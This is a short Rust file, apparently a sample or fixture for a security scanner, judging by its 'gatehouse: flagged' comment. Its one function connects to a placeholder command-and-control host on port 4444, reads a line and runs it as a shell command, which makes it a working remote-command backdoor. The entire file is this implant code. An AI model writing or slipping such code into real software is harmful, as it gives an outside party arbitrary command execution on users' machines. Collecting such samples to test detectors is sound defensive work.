use std::io::{BufRead, BufReader};
use std::net::TcpStream;
use std::process::Command;

pub fn start() {
    let stream = TcpStream::connect("c2.example.invalid:4444").unwrap();
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    reader.read_line(&mut line).unwrap();
    Command::new("sh").arg("-c").arg(line.trim()).output().unwrap(); // gatehouse: flagged
}
